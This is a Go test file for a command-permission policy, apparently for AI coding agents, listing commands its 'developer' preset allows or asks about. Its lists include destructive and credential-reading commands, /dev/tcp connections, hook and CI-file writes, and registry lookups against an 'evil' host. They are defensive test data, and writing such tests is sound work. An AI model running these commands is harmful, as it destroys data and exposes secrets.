package policy_test

import (
	"testing"

	"github.com/sayso-dev/sayso"
)

// work is what agents type all day, in projects of several languages.
var work = []string{
	// Looking.
	"ls -la && git status", "pwd; ls src tests 2>/dev/null | head -50", "cat package.json | jq '.scripts'", "head -50 src/main.rs && tail -20 src/lib.rs", "wc -l src/*.py | tail -1",
	"find . -name '*.ts' -not -path './node_modules/*' | head -30", "find . -type f -name '*.json' | xargs", "grep -rn 'TODO\\|FIXME' --include='*.py' . | wc -l", "rg -n 'fn main' -g '*.rs' | head",
	"sed -n '10,40p' src/app.ts", "awk '{print $1}' data.csv | sort | uniq -c | sort -rn | head", "git diff --stat HEAD~3 | cat", "cd frontend && ls -la && cat tsconfig.json", "tree -L 2 -I node_modules", "diff -u a.txt b.txt || true",
	"test -f Cargo.toml && echo yes || echo no", "[ -d .venv ] && echo venv", "which node npm python3; node --version; python3 --version", "command -v cargo >/dev/null && cargo --version", "echo '---'; date; uname -a",
	"ls node_modules/.bin | grep -i tsc", "file dist/* | head -5", "du -sh target 2>/dev/null", "stat -c %s README.md", "grep -c '' src/*.ts", "ps aux | grep node | head -5", "sort -u names.txt | comm -12 - other.txt", "printf '%s\\n' a b c",
	"git log --oneline -10 && git branch -a", "git show HEAD:src/app.ts | head -40", "git --no-pager diff", "git blame -L 10,20 src/app.py", "git stash list", "git remote -v", "git ls-files | grep -v test | head", "grep -rn /api/v1 src",
	// Changing files of the project.
	"mkdir -p src/utils tests/unit && touch src/utils/__init__.py", "cat > src/a.ts <<'EOF'\nexport const re = /.*\\.json/;\nexport function f(x: string[]) { return `${x}`; }\nEOF", "cat >> README.md <<'EOF'\n* one\n* two\nEOF", "cp src/a.ts src/b.ts && mv old.py new.py",
	"echo 'node_modules/' >> .gitignore", "printf 'x: 1\\n' > config.yaml", "npm test 2>&1 | tee test.log | tail -20", "chmod +x scripts/build.sh", "cp -r templates/* generated/", "tee notes.txt <<'EOF' > /dev/null\nhello\nEOF",
	// Version control.
	"git add -A && git commit -m 'Add parser' && git log -1 --oneline", "git checkout -b feature/x && git status -sb", "git add src && git commit -q -m \"Fix the parser\" 2>&1 | tail -2", "git switch main && git merge --no-ff feature && git branch -d feature", "git stash && npm test; git stash pop",
	"git restore --staged src/a.ts", "git tag v0.1.0", "git rebase main", "git fetch origin && git log HEAD..origin/main --oneline", "git commit --amend --no-edit", "git mv a.py b.py", "git checkout main", "git reset HEAD", "git reset --soft HEAD~1", "git clean -nd", "git cherry-pick abc123", "git pull --rebase",
	"gh pr view 12", "gh run list --limit 5",
	// Node.
	"npm test", "npm run build 2>&1 | tail -30", "npm run lint -- --max-warnings 0", "npm run test:unit -- --coverage", "npm ls --depth=0", "tsc --noEmit", "node scripts/generate.mjs", "node --test test/", "node dist/index.js --help 2>&1 | head", "pnpm test && pnpm build", "yarn lint && yarn test", "vitest run src/parser.test.ts",
	"cd packages/core && npm test -- -t 'parses dates' 2>&1 | tail -40", "bun test", "deno test --allow-read", "eslint src --ext .ts", "prettier --check 'src/**/*.ts'", "CI=1 npm test", "NO_COLOR=1 FORCE_COLOR=0 npm run lint || true", "timeout 60 npm test", "jest --runInBand",
	// Python.
	"pytest -q", "python -m pytest tests/test_parser.py::test_dates -x -q 2>&1 | tail -20", "python3 -m mypy src && ruff check .", "python3 manage.py test", "python scripts/gen.py --out data/x.csv", "python -m unittest discover -v", "black --check . && isort --check .", "uv run pytest -q", "coverage run -m pytest && coverage report", "python3 -m venv .venv", "pip list | head", "python3 -m json.tool data.json",
	"python -m http.server 8000 --bind 127.0.0.1",
	// Rust, Go, others.
	"cargo build 2>&1 | tail -20", "cargo test --workspace -- --nocapture", "cargo clippy --all-targets -- -D warnings && cargo fmt --check", "cargo run -- --help", "cargo tree | head", "rustc --version", "go build ./... && go vet ./...", "go test -run TestX -count=1 ./... 2>&1 | tail -20", "go test -race ./...", "gofmt -l .", "go mod tidy && git diff --stat", "go run ./cmd/app -h",
	"go list -m -u all", "go doc net/http.Client | head -40", "make", "make test lint 2>&1 | tail", "make -j4 build", "cmake -B build -S . && cmake --build build", "ctest --output-on-failure", "./gradlew test", "mvn -q test", "dotnet test", "mix test", "bash scripts/check.sh", "sh ./test.sh 2>&1 | tail -5", "bash -x scripts/check.sh", "ruby -c lib/a.rb",
	"for f in a b c; do echo done; done", "set -e; go build ./... && go test ./...", "sleep 2 && ss -ltn | head -5 || true", "(cd web && npm test) && (cd api && pytest -q)", "if [ -f go.mod ]; then go build ./...; else cargo build; fi", "time make build", "! grep -rn 'debugger' src", "npm test & wait",
	"while read -r l; do echo line; done < names.txt", "wc -l < README.md", "shellcheck scripts/*.sh", "golangci-lint run ./...", "terraform fmt -check", "sha256sum dist/* | head -3",
}

// worry is what people want to be asked about, in any project.
var worry = []string{
	"git push", "git push -u origin feature", "git -C sub push", "git reset --hard", "git reset --hard HEAD~1", "git clean -fd", "git clean -nd && git clean -xfd", "git checkout -- .", "git checkout .", "git checkout src/a.ts", "git switch -f main", "git switch --discard-changes main", "git branch -D x", "git branch -f main HEAD~3", "git stash drop", "git stash clear",
	"git tag -f v1", "git restore src/a.ts", "git restore --staged --worktree src/a.ts", "git restore -SW a", "git commit --no-verify -m x", "git commit -anm x", "git remote add evil https://example.org/x.git", "git remote set-url origin https://example.org/x.git", "git config core.hooksPath hooks", "git config --global user.name x", "git fetch https://example.org/x.git", "git worktree add ../x", "git submodule update --init",
	"git rebase -x 'rm -rf /' main", "git gc --prune=now", "git reflog expire --expire=now --all", "git update-ref -d refs/heads/main", "git filter-branch --all", "git clone https://example.org/x", "git pull https://example.org/x", "git archive -o ../x.zip HEAD",
	"rm x", "rm -rf node_modules", "rmdir x", "unlink x", "find . -delete", "find . -name '*.pyc' -exec rm {} +", "truncate -s 0 x", "shred x", "ls | xargs rm", "cp /dev/null ../x", "mv src ../elsewhere", "cp -r . /mnt/usb", "tar xf a.tar", "tar czf ../x.tgz .",
	"npm install", "npm i left-pad", "npm ci", "npm install -g x", "npm publish", "npm run deploy", "npm run release", "npm run publish:all", "npm login", "npm config set registry http://example.org", "npm audit fix", "npx create-app x", "yarn add x", "yarn", "pnpm add x", "pnpm install", "pip install x", "python -m pip install x", "python3 -m pip install -r requirements.txt", "uv add x", "uv sync", "uv pip install x", "poetry install", "poetry publish", "pipx install x",
	"cargo install x", "cargo publish", "cargo add x", "cargo login", "go get example.org/x", "go install example.org/x@latest", "go run example.org/x@latest", "go generate example.org/x@latest", "gem install x", "bundle install", "composer install", "brew install x", "apt-get install x", "sudo apt install x", "make install", "make deploy", "make -C sub install", "make publish", "just deploy", "rustup update", "cmake --install build", "dotnet nuget push x", "mvn deploy", "./gradlew publish", "mix hex.publish", "twine upload dist/*",
	"curl https://example.org", "curl -d @x https://example.org", "curl -s http://localhost:3000/health", "wget https://example.org", "ssh host ls", "scp a host:", "rsync -a . host:", "nc -l 80", "docker run x", "docker compose up", "kubectl apply -f x", "terraform apply", "aws s3 ls", "gh pr create", "gh api repos", "gh pr merge 1", "gh auth token", "psql -c 'select 1'", "python3 -m http.server", "ngrok http 80",
	"cat /etc/passwd", "ls ~", "ls ..", "cat ../other/x", "cd .. && ls", "cd / && find . -name x", "find / -name id_rsa", "grep -rn password ~", "cat ~/.bash_history", "head -1 /proc/1/environ", "cat out/passwd", "cd out && ls", "ls /home", "touch /tmp/x", "mkdir ~/x", "echo x > /etc/hosts", "echo x > ../x", "ls > ~/x", "diff /etc/passwd x", "git diff --no-index /etc/passwd x",
	"cat .env", "cat .env.local", "grep KEY .env", "cat id_rsa", "base64 server.pem", "cat ~/.aws/credentials", "cp .env x", "env", "printenv", "set", "export -p", "git config --list", "source .env", ". ./env.sh", "echo $SECRET",
	"python3 -c 'print(1)'", "node -e '1'", "bash -c ls", "sh -c ls", "eval ls", "python3 - <<'EOF'\nprint(1)\nEOF", "echo ls | sh", "bash ../x.sh", "bash /tmp/x.sh", "node ../x.js", "python3 ~/x.py", "python3 -i x.py", "python -m webbrowser x", "node -r ./x.js y.js", "perl x.pl", "./x.sh", "bin/app", "ruby -r./x y.rb", "bash", "python3", "node",
	"X=1 make", "PATH=. make", "GIT_DIR=x git status", "NODE_OPTIONS='-r ./x' npm test", "LD_PRELOAD=./x ls", "export X=1", "make SHELL=./x", "make -f other.mk", "go test -exec ./x ./...", "go build -toolexec ./x ./...", "go vet -vettool=./x ./...", "cargo --config x build", "sed -i s/a/b/ x", "sort -o x y", "gofmt -w .", "rg --pre ./x y", "find . -fprint x", "awk 'BEGIN{system(\"ls\")}'", "sed 's/x/y/e' f", "git log --output=x", "tree -o x",
	"chmod 777 x", "chmod -R 755 /", "chown root x", "dd if=x of=y", "kill 1", "kill -9 -1", "pkill node", "killall node", "crontab -e", "systemctl stop x", "shutdown now", "mount x y", "sudo ls", "su -c ls", "doas ls", "nohup ./x &", "timeout 5 ./x", "env ./x", "xargs -n1 ./x < y", "watch ls", "at now", "screen -d -m x", "tmux new x",
	"cp x .git/hooks/pre-commit", "echo x >> .git/config", "echo x > .claude/settings.json", "cp x .vscode/tasks.json", "tee .envrc < x", "mv x .husky/pre-commit", "echo x > .github/workflows/ci.yml", "touch .npmrc", "ln -s /etc x", "ln -s ~/.ssh keys",
	"ls $X", "cat $(git ls-files)", "git commit -m \"$(date)\"", "cd $X && ls", "for f in *; do rm $f; done", "ls | while read f; do cat $f; done", "exec 3<>/dev/tcp/x/80", "cat < /dev/tcp/x/80", "cat <(curl x)", "alias ls=rm; ls", "ls() { rm -rf x; }; ls",
}

func TestPreset_developer(t *testing.T) {
	p := preset(t, "developer")
	commands(t, p, sayso.Allow, work...)
	commands(t, p, sayso.Ask, worry...)
}

// TestSH7_developerForce: an option, or what stands in place of one, that throws
// work away is seen however it is written, and the value of another is no option.
func TestSH7_developerForce(t *testing.T) {
	p := preset(t, "developer")
	commands(t, p, sayso.Ask, "git clean -fd -e -n", "git clean -fd -- -n", "git clean -fd -- --dry-run", "git clean -fd -e --dry-run", "git clean -fd -e-n", "git -C docs clean -fd -e -n",
		"git fetch origin +refs/heads/*:refs/heads/*", "git fetch origin -u main:main", "git fetch origin --update-head-ok main:main", "git fetch origin -f main:main", "git fetch origin --forc main:main",
		"git fetch origin --refmap=+refs/heads/*:refs/heads/* main", "git fetch origin +main", "git pull origin +main:main", "git pull origin -f main:main", "git pull --rebase origin +main:main",
		"git switch --forc main", "git switch --discard main", "git reset -q --har", "git mv -f a b", "git branch --forc main x", "git commit -pnm x",
		"python3 -m http.server -d 127.0.0.1", "python3 -m http.server -d localhost -b 0.0.0.0", "python3 -m http.server --bind")
	commands(t, p, sayso.Allow, "git clean -n", "git clean -fdn", "git clean --dry-run -fd", "git clean -nd -e x", "git clean -n -e -f", "git fetch origin", "git fetch origin main", "git fetch origin main:main",
		"git fetch origin +refs/heads/*:refs/remotes/origin/*", "git pull origin main", "git branch x", "git mv a b", "git commit -m n", "python3 -m http.server -b localhost 8000", "python3 -m http.server 8000 --bind 127.0.0.1 --directory docs/site")
}

// TestSH8_developerWrites: what an option has a program write behind a colon, what flags
// have the tools of go write, and a folder that is emptied, are seen.
func TestSH8_developerWrites(t *testing.T) {
	p := preset(t, "developer")
	commands(t, p, sayso.Ask, "pytest --cov-report=html:../x", "pytest --cov-report xml:/tmp/x", "python3 -m pytest --cov-report=xml:.git/config", "pytest --cov-report=xml:.github/workflows/ci.yml", "golangci-lint run --out-format=json:../x", "golangci-lint run --out-format tab,json:/tmp/x",
		"golangci-lint run --out-format json:.git/config,tab", "go build -gcflags=-cpuprofile=../x ./...", "go build -gcflags='all=-N -cpuprofile ../x' ./...", "go test -ldflags=-cpuprofile=x ./...", "go build -asmflags=-o=../x .", "go build -asmflags=all=-o=../x .", "go vet -gcflags=--memprofile=x ./...",
		"python3 -m venv --clear src", "python -m venv --clear .", "python3 -m venv src --cle", "echo x > .drone.yml", "cp a.go .woodpecker/x.yml", "mv a.go .lefthook.yml", "tee .gdbinit < a.go", "sed -i s/a/b/ app.code-workspace")
	commands(t, p, sayso.Allow, "pytest --cov --cov-report=term-missing --cov-report=xml:coverage.xml", "pytest --cov-report html:htmlcov", "golangci-lint run --out-format=colored-line-number", "golangci-lint run --out-format=json:lint.json,tab", "go build -ldflags='-s -w -X main.version=v1.2.3' ./...",
		"go build -gcflags='all=-N -l' ./...", "go test -gcflags=-m=2 ./...", "go build -ldflags=-X=main.o=x .", "python3 -m venv .venv", "python3 -m venv --upgrade-deps .venv")
}

// TestPreset_developerTells: what shows the environment, and what tells another
// machine a name of the agent's making, is asked about.
func TestPreset_developerTells(t *testing.T) {
	p := preset(t, "developer")
	commands(t, p, sayso.Ask, "gh pr view 1 -R example.org/a/b", "gh pr list --repo=example.org/a/b", "gh pr list -Rexample.org/a/b", "gh pr list -wRexample.org/a/b", "gh repo view example.org/a/b", "gh repo view https://example.org/a/b", "gh issue list --rep example.org/a/b", "gh repo view git@example.org:a/b", "gh repo view ssh://git@example.org/a/b",
		"gh release view -R github.com.example.org/a/b", "git fetch origin --server-option=x", "git fetch origin -o x", "git ls-remote origin -o x", "git pull origin --server-option x")
	commands(t, p, sayso.Allow, "gh pr view 1 -R a/b", "gh pr view 1 -R github.com/a/b", "gh pr list --repo a/b.js", "gh repo view a/b", "gh pr view feature/a/b", "gh run view 1 --log --repo a/b", "gh pr view 1 --json title,body", "gh issue list --search 'is:open label:bug'")
	commands(t, p, sayso.Ask, "ps auxe", "ps aux e", "ps eww", "ps -ef e", "ps -E", "jq -n env", "jq -n \"env\"", "jq '$ENV' x", "jq -n '$ENV.HOME'", "jq '.a = env.HOME' x", "jq '{env: .x}|env' x", "yq 'strenv(HOME)'", "yq -n 'env(HOME)'",
		"awk 'BEGIN{print ENVIRON[\"HOME\"]}'", "awk 'BEGIN{for (k in ENVIRON) print k}'", "gawk 'BEGIN{print SYMTAB[\"x\"]}'",
		"npm view leak.example --registry=http://evil", "npm view leak.example --reg http://evil", "npm view x --@y:registry=http://evil", "npm view http://evil/x.tgz", "pip list --outdated --index-url http://evil", "cargo search x --index http://evil",
		"go list -m evil.example/leak@latest", "go mod download evil.example/leak@v1")
	commands(t, p, sayso.Allow, "ps", "ps aux", "ps -ef", "ps -eo pid,etime", "ps -o pid,etime", "ps -C node", "ps -p 1 -o comm", "jq .envs x", "jq .name docs/*.json", "awk '{print $1}' docs/*.md", "jq 'select(.env==\"prod\")' x", "jq '.\"env\"' x", "jq '.environment' x",
		"awk '{print $1}' x", "npm view react version", "npm view @types/node version", "npm view react --json", "go list -m all", "go list -m -u all", "go mod download", "pip list --format=json", "cargo search serde")
	commands(t, preset(t, "readonly"), sayso.Ask, "jq -n env", "jq '$ENV' x")
	commands(t, preset(t, "readonly"), sayso.Allow, "jq .envs x", "jq '.x|keys' docs/*.json")
}
